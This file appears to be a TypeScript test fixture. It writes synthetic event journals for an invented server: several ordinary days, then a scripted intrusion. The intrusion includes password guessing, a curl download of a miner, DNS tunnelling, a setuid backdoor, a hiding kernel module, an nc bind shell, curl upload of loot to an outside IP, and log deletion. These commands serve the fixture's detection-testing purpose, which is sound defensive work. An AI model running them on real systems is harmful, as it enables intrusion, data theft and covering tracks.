import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { openJournalWriter } from '@quarry/journals/store'
import { at, Story } from './past-story.ts'

const hour = 3600
const day = 86_400
const ada = '198.51.100.20'
const intruder = '198.51.100.66'

/**
 * Records the past of an invented server, which is broken into at 2026-11-20T03:00:00Z: some ordinary days, then somebody guesses a
 * password, fetches and runs a miner, digs in, and sends data away.
 * @returns the folder of the journals, in a folder of its own that the caller removes
 */
export function recordPast(): string {
  const folder = join(mkdtempSync(join(tmpdir(), 'quarry-past-')), 'journals')
  // The clock of the store stands at the end of the story, so that none of it is too old.
  const writer = openJournalWriter(folder, { now: () => at(2 * hour) })
  const story = new Story(writer)
  intrusion(story, ordinaryDays(story))
  writer.flush()
  writer.close()
  return folder
}

interface Services {
  sshd: string
  worker: string
}

function ordinaryDays(story: Story): Services {
  const boot = -3 * day
  story.system('boot', boot, { bootId: '0b5f2c4a' })
  story.system('recording_started', boot + 1, { sources: { process: 'bpf' } })
  const init = story.start(1, boot, '0:0', { path: '/usr/lib/systemd/systemd', cmd: '/sbin/init' })
  const modprobe = story.run(300, boot + 5, init, { path: '/usr/sbin/modprobe', cmd: 'modprobe nf_tables' })
  story.system('module_loaded', boot + 5, { name: 'nf_tables' }, modprobe)
  const sshd = story.start(700, boot + 10, init, { path: '/usr/sbin/sshd', cmd: 'sshd -D' })
  const cron = story.start(650, boot + 11, init, { path: '/usr/sbin/cron', cmd: 'cron -f' })
  const nginx = story.start(731, boot + 12, init, { path: '/usr/sbin/nginx', cmd: 'nginx: master process' })
  const worker = story.start(733, boot + 13, nginx, {
    path: '/usr/sbin/nginx',
    cmd: 'nginx: worker',
    user: 'www-data',
  })
  story.listen(sshd, boot + 10, '0.0.0.0', 22)
  story.listen(nginx, boot + 12, '0.0.0.0', 443)
  for (const days of [3, 2, 1]) {
    const noon = -days * day + 9 * hour
    for (let n = 0; n < 4; n++) {
      story.run(1000 + n, noon + n * hour, cron, { path: '/usr/bin/find', cmd: 'find /var/cache -delete' })
      story.accept(worker, noon + n * 977, `198.51.100.${100 + n}`, 443)
    }
    story.sign(4624, noon, 'ada', ada, 'sshd', sshd)
    const shell = story.start(1500, noon, sshd, { path: '/usr/bin/bash', cmd: '-bash', user: 'ada' })
    story.run(1501, noon + 60, shell, { path: '/usr/bin/vim', cmd: 'vim notes', user: 'ada' })
    story.sign(4648, noon + 90, 'root', null, 'sudo')
    const apt = story.run(1502, noon + 91, shell, { path: '/usr/bin/apt', cmd: 'apt update' })
    story.ask(apt, noon + 91, 'deb.example', '203.0.113.80')
    story.name(apt, noon + 91, 'deb.example', '203.0.113.80')
    story.connect(apt, noon + 91, '203.0.113.80', 443, 900, 40_000_000)
    story.end(shell, noon + 600)
    story.sign(4634, noon + 600, 'ada', ada, 'sshd', sshd)
  }
  story.system('recording_ended', -2 * day, { reason: 'the agent was stopped' })
  story.system('recording_started', -2 * day + hour, { sources: { process: 'bpf' } })
  story.system('clock_step', -day, { seconds: -3600 })
  story.lose('File', -day, 1234)
  return { sshd, worker }
}

function intrusion(story: Story, { sshd, worker }: Services) {
  // A web shell was tried first.
  story.run(2000, -600, worker, { path: '/usr/bin/dash', cmd: 'sh -c id', user: 'www-data' })
  for (let n = 0; n < 30; n++)
    story.sign(4625, n * 4, ['root', 'admin', 'deploy'][n % 3]!, intruder, 'sshd', sshd)
  story.sign(4624, 120, 'deploy', intruder, 'sshd', sshd)
  const shell = story.start(2100, 121, sshd, { path: '/usr/bin/bash', cmd: '-bash', user: 'deploy' })
  story.run(2101, 130, shell, { path: '/usr/bin/whoami', user: 'deploy' })
  fetchAndRun(story, shell)
  tunnel(story, shell)
  digIn(story, shell)
  story.end(shell, 900)
}

function fetchAndRun(story: Story, shell: string) {
  const user = 'deploy' as const
  const cmd = 'curl -s http://cdn.bad.example/stage -o /tmp/.x/miner'
  const curl = story.run(2110, 140, shell, { path: '/usr/bin/curl', cmd, user })
  story.ask(curl, 140, 'cdn.bad.example', '203.0.113.66')
  story.get(curl, 140, '203.0.113.66', 'http://cdn.bad.example/stage', 'curl/7.88.1')
  story.connect(curl, 140, '203.0.113.66', 80, 300, 2_000_000)
  story.change(curl, 141, 0, '/tmp/.x/miner', { subject: 'FileBinaryChanges', file_size: 4096 })
  const chmod = story.run(2111, 145, shell, { path: '/usr/bin/chmod', cmd: 'chmod +x /tmp/.x/miner', user })
  story.change(chmod, 145, 6, '/tmp/.x/miner', { subject: 'FileBinaryChanges' })
  const flags = '-o stratum+tcp://203.0.113.67:3333'
  const miner = story.start(2120, 150, shell, { path: '/tmp/.x/miner', cmd: `/tmp/.x/miner ${flags}`, user })
  story.hashed(miner, 150, '/tmp/.x/miner')
  story.detect(miner, 152, 'Miner.Example', '/tmp/.x/miner', 'T1496')
  story.ask(miner, 151, 'pool.bad.example', '203.0.113.67')
  story.name(miner, 151, 'pool.bad.example', '203.0.113.67')
  for (let n = 0; n < 20; n++) story.connect(miner, 160 + n * 60, '203.0.113.67', 3333, 400, 200)
  const rm = story.run(2121, 165, shell, { path: '/usr/bin/rm', cmd: 'rm /tmp/.x/miner', user })
  story.change(rm, 165, 2, '/tmp/.x/miner', { subject: 'FileBinaryChanges' })
}

function tunnel(story: Story, shell: string) {
  const python = story.start(2130, 200, shell, { path: '/usr/bin/python3', cmd: 'python3 -', user: 'deploy' })
  for (let n = 0; n < 30; n++) {
    const label = `${n}`.padStart(4, '0').repeat(14)
    story.ask(python, 201 + n, `${label}.t.bad.example`, '"ok"', 'TXT')
    story.ask(python, 240 + n, `q${(n * 7919).toString(36)}x${n}.example`, '')
  }
  story.end(python, 290)
}

function digIn(story: Story, shell: string) {
  const helper = { path: '/usr/local/bin/helper', user: 'deploy', euid: 0 } as const
  const risen = story.start(2140, 300, shell, helper)
  const root = story.start(2141, 301, risen, { path: '/usr/bin/bash', cmd: 'bash -p' })
  const set = story.run(2142, 305, root, { path: '/usr/bin/chmod', cmd: 'chmod u+s /usr/local/bin/backdoor' })
  story.change(set, 305, 6, '/usr/local/bin/backdoor', { subject: 'FileBinaryChanges' })
  const insmod = story.run(2143, 310, root, { path: '/usr/sbin/insmod', cmd: 'insmod /tmp/hide.ko' })
  story.system('module_loaded', 310, { name: 'hide' }, insmod)
  story.change(root, 320, 0, '/etc/cron.d/update')
  story.change(root, 321, 3, '/home/deploy/.ssh/authorized_keys')
  const door = story.start(2150, 330, root, { path: '/usr/bin/nc', cmd: 'nc -l 4444 -e /bin/sh' })
  story.listen(door, 330, '0.0.0.0', 4444)
  story.accept(door, 340, intruder, 4444)
  const cmd = 'curl -T /var/tmp/loot.tar https://203.0.113.99/'
  const upload = story.start(2160, 400, root, { path: '/usr/bin/curl', cmd })
  story.connect(upload, 400, '203.0.113.99', 443, 500_000_000, 2000, 60)
  story.end(upload, 460)
  const rm = story.run(2161, 470, root, { path: '/usr/bin/rm', cmd: 'rm /var/log/auth.log' })
  story.change(rm, 470, 2, '/var/log/auth.log')
  story.end(root, 500)
  story.end(risen, 501)
}
